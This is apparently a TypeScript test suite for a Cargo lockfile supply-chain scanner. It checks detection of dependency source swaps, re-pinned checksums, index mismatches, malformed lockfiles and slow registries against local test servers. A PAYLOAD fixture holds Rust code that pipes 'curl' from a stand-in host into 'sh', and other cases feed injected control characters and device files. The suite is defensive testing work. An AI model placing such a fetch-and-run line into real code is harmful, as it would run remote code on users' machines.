/**
 * A Cargo.lock delta must not launder a dependency change: a package moved to another source, a
 * version re-pinned to other contents, an index that disagrees with the lockfile, malformed or
 * hostile lockfiles, huge version lists and a registry that trickles its answers. Every case runs
 * the CLI against a real registry on 127.0.0.1 that the test builds (`CRATEFENCE_BIN` runs another
 * build of the CLI, to measure the behaviour before a change).
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Log } from 'sarif';
import type { LockEntry, LockReport } from '../src/index.js';
import { lockDelta } from '../src/lock/delta.js';
import { parseLockfile, type LockPackage } from '../src/lock/parse.js';
import { CRATES_IO, lockCli as cli, lockText, type LockPkg } from './helpers/lock-fixture.js';
import { RegistryServer, startRegistryServer, type PublishedVersion } from './helpers/registry-server.js';
import { sarifValidator } from './helpers/sarif-schema.js';
import { crateEntries, makeTar } from './helpers/tarball.js';
import { tempDir } from './helpers/tmp.js';

const NOW = '2026-03-10T00:00:00Z';
const OLD = { pubtime: '2026-01-01T00:00:00Z' };
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const reg = (v: PublishedVersion, source = CRATES_IO): LockPkg => ({ name: v.name, version: v.vers, source, checksum: v.cksum });
const env = () => ({ XDG_CACHE_HOME: tempDir('cf-li-xdg-'), CARGO_HOME: tempDir('cf-li-cargo-'), CRATEFENCE_NOW: NOW });
const HONEST = 'pub fn f() -> u8 { 1 }\n';
// What a swapped release does: runs a downloaded script when the library is used.
const PAYLOAD = 'pub fn f() -> u8 {\n    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/x | sh").status();\n    1\n}\n';

/** Writes old and new lockfiles (and files beside them) into a fresh folder; returns its path. */
function lockDir(oldPkgs: LockPkg[], newPkgs: LockPkg[], files: Record<string, string> = {}): string {
  const d = tempDir('cf-li-');
  writeFileSync(path.join(d, 'old.lock'), lockText(oldPkgs, 4));
  writeFileSync(path.join(d, 'Cargo.lock'), lockText(newPkgs, 4));
  for (const [f, text] of Object.entries(files)) writeFileSync(path.join(d, f), text);
  return d;
}

const byName = (r: LockReport) => Object.fromEntries(r.entries.map((e) => [e.name, e])) as Record<string, LockEntry>;
const APP: LockPkg = { name: 'app', version: '0.1.0' };

let server: RegistryServer;
let other: RegistryServer;
const v: Record<string, PublishedVersion> = {};
const honest: Record<string, Buffer> = {};

beforeAll(async () => {
  server = await startRegistryServer();
  other = await startRegistryServer();
  v.tiny = await server.publish('tiny', '0.1.0', HONEST, OLD);
  v.otherTiny = await other.publish('tiny', '0.1.0', HONEST, OLD);
  // Re-pinned releases: the registry now serves the payload under a version first published honest.
  for (const name of ['repin-cached', 'repin-gone', 'repin-edited']) honest[name] = await makeTar(crateEntries(name, '1.0.0', HONEST));
  v.repinCached = await server.publish('repin-cached', '1.0.0', PAYLOAD, OLD);
  v.repinGone = await server.publish('repin-gone', '1.0.0', PAYLOAD, OLD);
  // Here the registry is honest and the lockfile was edited to pin something else.
  v.repinEdited = server.addCrate('repin-edited', '1.0.0', honest['repin-edited'], OLD);
  v.idx0 = await server.publish('idx', '1.0.0', HONEST, OLD);
  const idxBytes = await makeTar(crateEntries('idx', '1.0.1', 'pub fn f() -> u8 { 2 }\n'));
  v.idx1 = server.addCrate('idx', '1.0.1', idxBytes, { ...OLD, cksum: 'e'.repeat(64) });
});
afterAll(async () => {
  await server.stop();
  await other.stop();
});

describe('attack 1: a dependency moved to another source', () => {
  const fork = 'git+https://github.com/someone/tiny?rev=0a1b2c#0a1b2c3d4e5f60718293a4b5c6d7e8f901234567';

  it('crates.io → a git fork is review (exit 1 under --fail-on review), names both sources, and sits on the Cargo.lock line in SARIF', async () => {
    const d = lockDir([APP, reg(v.tiny)], [APP, { name: 'tiny', version: '0.1.0', source: fork }]);
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--fail-on', 'review', '--format', 'json', '--quiet'], env(), d);
    expect(r.err).toBe('');
    expect(r.code).toBe(1);
    const rep = JSON.parse(r.out) as LockReport;
    expect(rep.verdict).toBe('review');
    const e = byName(rep).tiny;
    expect(e).toMatchObject({ change: 'changed', old: '0.1.0', new: '0.1.0', source: fork, verdict: 'review', lockLine: 9 });
    expect(e.findings).toEqual([expect.objectContaining({ ruleId: 'lock-source-change', severity: 'medium', verdict: 'review', old: CRATES_IO, new: fork })]);
    expect(e.findings![0].message).toMatch(/^tiny \(version 0\.1\.0\) now comes from the git repository git\+https:\/\/github\.com\/someone\/tiny.* instead of crates\.io/);
    const sarif = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'sarif', '--quiet'], env(), d);
    const log = JSON.parse(sarif.out) as Log;
    expect(sarifValidator()(log)).toEqual([]);
    // SARIF rule ids carry the severity (`lock-source-change.medium`): GitHub reads an alert's severity from its rule.
    const res = log.runs[0].results!.find((x) => x.ruleId === 'lock-source-change.medium')!;
    expect(res.locations![0].physicalLocation).toMatchObject({ artifactLocation: { uri: 'Cargo.lock' }, region: { startLine: 9 } });
    expect(res.message.text).toContain(fork);
    expect(res.message.text).toContain(CRATES_IO);
    const text = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--quiet'], env(), d);
    expect(text.out).toMatch(/REVIEW tiny +0\.1\.0 → 0\.1\.0\n.*\n {7}medium {3}lock-source-change {2}Cargo\.lock:9 {2}tiny/);
  });

  it('block where the policy says so ([lock] source-change = "block"); a path replacement too', async () => {
    const d = lockDir([APP, reg(v.tiny)], [APP, { name: 'tiny', version: '0.1.0', source: null }], { 'cratefence.toml': '[lock]\nsource-change = "block"\n' });
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'json', '--quiet'], env(), d);
    expect(r.code).toBe(1);
    const e = byName(JSON.parse(r.out) as LockReport).tiny;
    expect(e.findings).toEqual([expect.objectContaining({ ruleId: 'lock-source-change', severity: 'high', verdict: 'block', old: CRATES_IO, new: null })]);
    expect(e.findings![0].message).toContain('now comes from a local path (no source) instead of crates.io');
    writeFileSync(path.join(d, 'cratefence.toml'), '[lock]\nsource-change = "allow"\n');
    const bad = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--quiet'], env(), d);
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/cratefence\.toml:2: lock\.source-change/);
  });

  it('crates.io → another registry: fetched from both, diffed, and review', async () => {
    const d = lockDir([APP, reg(v.tiny)], [APP, reg(v.otherTiny, `sparse+${other.indexUrl}`)]);
    const before = other.requestsTo('/dl/').length;
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--fail-on', 'review', '--format', 'json', '--quiet'], env(), d);
    expect(r.err).toBe('');
    expect(r.code).toBe(1);
    const e = byName(JSON.parse(r.out) as LockReport).tiny;
    expect(e).toMatchObject({ verdict: 'review', source: `sparse+${other.indexUrl}` });
    expect(e.report!.summary.firstRelease).toBe(false);
    expect(e.report!.verdict).toBe('pass');
    expect(e.findings![0].message).toContain(`now comes from the registry sparse+${other.indexUrl} instead of crates.io`);
    expect(e.findings![0].message).toContain('diffed against 0.1.0 from the old one');
    expect(other.requestsTo('/dl/').length).toBe(before + 1);
  });

  it('pairs across sources in the delta: registry → registry, crates.io spellings are one source', () => {
    const p = (name: string, version: string, source: string | null, checksum: string | null = null): LockPackage => ({ name, version, source, checksum, line: null });
    const [e] = lockDelta([p('x', '1.0.0', 'sparse+https://a.example/')], [p('x', '1.0.1', 'sparse+https://b.example/')]);
    expect(e).toMatchObject({ change: 'changed', sourceChanged: true, old: { version: '1.0.0' }, new: { version: '1.0.1' } });
    expect(lockDelta([p('x', '1.0.0', CRATES_IO)], [p('x', '1.0.0', 'sparse+https://index.crates.io/')])).toEqual([]);
    // Another revision of the same git repository is a version change, another repository a source change.
    const g = (rev: string, repo = 'o/g') => p('g', '0.3.0', `git+https://github.com/${repo}?rev=${rev}#${rev}`);
    expect(lockDelta([g('aaaa')], [g('bbbb')])[0].sourceChanged).toBeUndefined();
    expect(lockDelta([g('aaaa')], [g('aaaa', 'evil/g')])[0].sourceChanged).toBe(true);
  });
});

describe('attack 2: a version re-pinned to other contents', () => {
  it('the old contents in the Cargo cache: block, the new tarball verified by the new checksum and diffed against the old one', async () => {
    const e0 = env();
    const cache = path.join(e0.CARGO_HOME, 'registry', 'cache', 'index.crates.io-1949cf8c6b5b557f');
    mkdirSync(cache, { recursive: true });
    writeFileSync(path.join(cache, 'repin-cached-1.0.0.crate'), honest['repin-cached']);
    const d = lockDir([APP, { ...reg(v.repinCached), checksum: sha(honest['repin-cached']) }], [APP, reg(v.repinCached)]);
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'json', '--quiet'], e0, d);
    expect(r.code).toBe(1);
    const rep = JSON.parse(r.out) as LockReport;
    expect(rep.verdict).toBe('block');
    const e = byName(rep)['repin-cached'];
    expect(e).toMatchObject({ change: 'changed', old: '1.0.0', new: '1.0.0', verdict: 'block' });
    expect(e.findings).toEqual([expect.objectContaining({ ruleId: 'lock-checksum-change', severity: 'high', verdict: 'block', old: sha(honest['repin-cached']), new: v.repinCached.cksum })]);
    expect(e.findings![0].message).toContain('diffed against the old contents');
    expect(e.findings![0].message).toContain('from the Cargo cache');
    // A real diff: the old release is the honest one, the payload is what was added.
    expect(e.report!.summary.firstRelease).toBe(false);
    expect(e.report!.findings.some((f) => f.category === 'process' && f.severity !== 'info')).toBe(true);
  });

  it('the old contents nowhere: said so, and the new one scanned as a first release', async () => {
    const d = lockDir([APP, { ...reg(v.repinGone), checksum: sha(honest['repin-gone']) }], [APP, reg(v.repinGone)]);
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'json', '--quiet'], env(), d);
    expect(r.code).toBe(1);
    const e = byName(JSON.parse(r.out) as LockReport)['repin-gone'];
    expect(e.verdict).toBe('block');
    expect(e.findings![0].message).toMatch(/are in neither the Cargo cache nor cratefence's cache and the registry does not serve them \(.*checksum mismatch/);
    expect(e.findings![0].message).toContain('scanned as a first release');
    expect(e.report!.summary.firstRelease).toBe(true);
  });

  it('the lockfile edited to pin other contents: the finding, and the fetch refused (exit 2)', async () => {
    const forged = 'c'.repeat(64);
    const d = lockDir([APP, reg(v.repinEdited)], [APP, { ...reg(v.repinEdited), checksum: forged }]);
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'json', '--quiet'], env(), d);
    expect(r.code).toBe(2);
    const e = byName(JSON.parse(r.out) as LockReport)['repin-edited'];
    expect(e.error).toMatch(/checksum mismatch/);
    expect(e.findings).toEqual([expect.objectContaining({ ruleId: 'lock-checksum-change', old: v.repinEdited.cksum, new: forged })]);
    expect(e.findings![0].message).toContain('could not be fetched and verified');
  });
});

describe('attack 3: the registry index and the lockfile disagree', () => {
  it('is a block finding that says the lockfile checksum was the one verified', async () => {
    const real = sha(v.idx1.bytes);
    const d = lockDir([APP, reg(v.idx0)], [APP, { ...reg(v.idx1), checksum: real }]);
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'json', '--quiet'], env(), d);
    expect(r.err).toBe('');
    expect(r.code).toBe(1);
    const e = byName(JSON.parse(r.out) as LockReport).idx;
    expect(e.report!.verdict).toBe('pass');
    expect(e.verdict).toBe('block');
    expect(e.findings).toEqual([expect.objectContaining({ ruleId: 'lock-index-checksum', severity: 'high', old: real, new: 'e'.repeat(64) })]);
    expect(e.findings![0].message).toContain(`lists sha256 ${'e'.repeat(64)}, but Cargo.lock pins sha256 ${real}`);
    expect(e.findings![0].message).toContain("verified against Cargo.lock's checksum, as cargo does");
  });
});

describe('attack 4: malformed and hostile lockfiles', () => {
  it('no packages, a non-string or non-SHA-256 checksum, a duplicate package: one-line error, exit 2', async () => {
    const d = tempDir('cf-li-bad-');
    const good = lockText([APP, reg(v.tiny)], 4);
    writeFileSync(path.join(d, 'good.lock'), good);
    const cases: Array<[string, string, RegExp]> = [
      ['empty.lock', '# This file is automatically @generated by Cargo.\nversion = 4\n', /empty\.lock: no \[\[package\]\] entries/],
      ['array.lock', good.replace(`checksum = "${v.tiny.cksum}"`, `checksum = ["${v.tiny.cksum}"]`), /array\.lock: package 2 has a checksum that is not a string \(an array\)/],
      ['number.lock', good.replace(`checksum = "${v.tiny.cksum}"`, 'checksum = 7'), /number\.lock: package 2 has a checksum that is not a string \(number\)/],
      ['short.lock', good.replace(`checksum = "${v.tiny.cksum}"`, 'checksum = "abc"'), /short\.lock: package 2 \(tiny 0\.1\.0\) has a checksum that is not a SHA-256/],
      ['source.lock', good.replace(`source = "${CRATES_IO}"`, 'source = { git = "x" }'), /source\.lock: package 2 has a source that is not a string/],
      ['ctrl.lock', good.replace('name = "tiny"', 'name = "tiny\\n::error::owned"'), /ctrl\.lock: package 2 has a control character in its name/],
      ['dup.lock', `${good}\n${lockText([{ ...reg(v.tiny), checksum: 'd'.repeat(64) }], 4).split('\n\n')[1]}`, /dup\.lock: tiny 0\.1\.0 \(registry\+.*\) is listed twice/],
    ];
    for (const [file, text, message] of cases) {
      writeFileSync(path.join(d, file), text);
      const r = await cli(['lock', 'good.lock', file, '--registry', server.indexUrl, '--quiet'], env(), d);
      expect(r.code, file).toBe(2);
      expect(r.err, file).toMatch(message);
      expect(r.err.trim().split('\n'), file).toHaveLength(1);
      expect(r.out, file).toBe('');
    }
  });

  it('a FIFO or a link to /dev/zero as the lockfile fails at once', async () => {
    const d = tempDir('cf-li-fifo-');
    writeFileSync(path.join(d, 'good.lock'), lockText([APP], 4));
    execFileSync('mkfifo', [path.join(d, 'fifo.lock')]);
    symlinkSync('/dev/zero', path.join(d, 'zero.lock'));
    for (const [file, what] of [['fifo.lock', 'a FIFO'], ['zero.lock', 'a device']]) {
      const r = await cli(['lock', 'good.lock', file, '--quiet', '--timeout', '60s'], env(), d);
      expect(r.code, file).toBe(2);
      expect(r.err).toBe(`cratefence: ${file}: the lockfile is ${what}; only regular files are read\n`);
      expect(r.ms, file).toBeLessThan(10_000);
    }
  });
});

describe('attack 5: thousands of versions of one name', () => {
  const many = (n: number, shift: number): LockPkg[] => Array.from({ length: n }, (_, i) => ({ name: 'big', version: `${i % 7}.${Math.floor(i / 7) % 97}.${i + shift}`, source: CRATES_IO, checksum: sha(Buffer.from(`${i}/${shift}`)) }));

  it('pairs 6,000 old with 6,000 new versions in well under two seconds', () => {
    const olds = parseLockfile(lockText([APP, ...many(6000, 0)], 4), 'old').packages;
    const news = parseLockfile(lockText([APP, ...many(6000, 1)], 4), 'new').packages;
    const t0 = performance.now();
    const delta = lockDelta(olds, news);
    const ms = performance.now() - t0;
    expect(delta).toHaveLength(6000);
    expect(delta.every((e) => e.change === 'changed' && !e.sourceChanged)).toBe(true);
    // Neighbours on the version line pair up: 0.0.1 → 0.0.2 is a patch bump, not a jump.
    expect(delta.filter((e) => e.old!.version.split('.')[0] === e.new!.version.split('.')[0]).length).toBeGreaterThan(5000);
    expect(ms).toBeLessThan(2000);
  });

  it('the CLI stops above --max-packages in seconds, before fetching anything', async () => {
    const d = lockDir([APP, ...many(6000, 0)], [APP, ...many(6000, 1)]);
    const asked = server.requests.length;
    const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--quiet', '--output', 'report.json', '--format', 'json'], env(), d);
    expect(r.code).toBe(2);
    expect(r.err).toBe('cratefence: Cargo.lock: 6000 packages to fetch and scan, over the limit of 2000 per run (--max-packages N raises it); nothing was fetched\n');
    expect(r.ms).toBeLessThan(15_000);
    expect(server.requests.length).toBe(asked);
    expect(existsSync(path.join(d, 'report.json'))).toBe(false);
  });
});

describe('attack 6: a registry that trickles its answers', () => {
  it('--timeout ends the run with exit 2, naming the packages and requests still waiting, and writes nothing', async () => {
    const slow = await startRegistryServer();
    try {
      const a = await slow.publish('drip', '0.1.0', HONEST, OLD);
      const b = await slow.publish('drip', '0.1.1', HONEST, OLD);
      slow.failure = { kind: 'trickle', delayMs: 500 };
      const d = lockDir([APP, reg(a)], [APP, reg(b)]);
      const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--registry', slow.indexUrl, '--timeout', '3s', '--output', 'report.json', '--quiet'], env(), d);
      expect(r.code).toBe(2);
      expect(r.err).toMatch(/^cratefence: the run went over its time limit \(--timeout 3s\) with 1 package unfinished: drip \(fetching 0\.1\.0 and 0\.1\.1\); requests still waiting: http:\/\/127\.0\.0\.1:\d+\/index\/config\.json; nothing was reported\n$/);
      expect(r.ms).toBeGreaterThan(2900);
      expect(r.ms).toBeLessThan(15_000);
      expect(existsSync(path.join(d, 'report.json'))).toBe(false);
      expect(slow.requests.length).toBeGreaterThan(0);
    } finally {
      await slow.stop();
    }
  });

  it('--timeout bounds the --server checks too', async () => {
    // An ingest service that answers 200 and then trickles its body.
    const svc = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const t = setInterval(() => res.write(' '), 500);
      res.on('close', () => clearInterval(t));
    });
    await new Promise<void>((r) => svc.listen(0, '127.0.0.1', () => r()));
    try {
      const url = `http://127.0.0.1:${(svc.address() as AddressInfo).port}`;
      const d = lockDir([APP, reg(v.tiny)], [APP, reg(v.tiny)]);
      const r = await cli(['lock', 'old.lock', 'Cargo.lock', '--server', url, '--timeout', '2s', '--quiet'], env(), d);
      expect(r.code).toBe(2);
      expect(r.err).toBe(`cratefence: the run went over its time limit (--timeout 2s) while asking the ingest service ${url}: 1 of 1 pinned packages unchecked, waiting for tiny 0.1.0; nothing was reported\n`);
      expect(r.ms).toBeLessThan(12_000);
    } finally {
      svc.closeAllConnections();
      await new Promise<void>((r) => svc.close(() => r()));
    }
  });

  it('--timeout must be a duration', async () => {
    const r = await cli(['lock', 'a.lock', 'b.lock', '--timeout', 'soon'], env());
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/--timeout takes a duration/);
  });
});
